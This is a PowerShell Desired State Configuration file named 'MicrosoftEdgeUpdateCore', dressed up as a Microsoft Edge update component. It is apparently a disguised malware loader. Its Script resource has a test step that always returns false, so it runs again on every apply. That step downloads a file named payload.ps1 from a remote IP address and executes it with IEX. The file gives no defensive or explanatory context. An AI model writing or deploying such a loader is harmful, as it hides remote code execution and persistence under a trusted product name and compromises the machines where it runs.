# init 5979 v0
Configuration MicrosoftEdgeUpdateCore {
  Import-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '' } }
      TestScript = { $false }
      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1') }
    }
  }
}
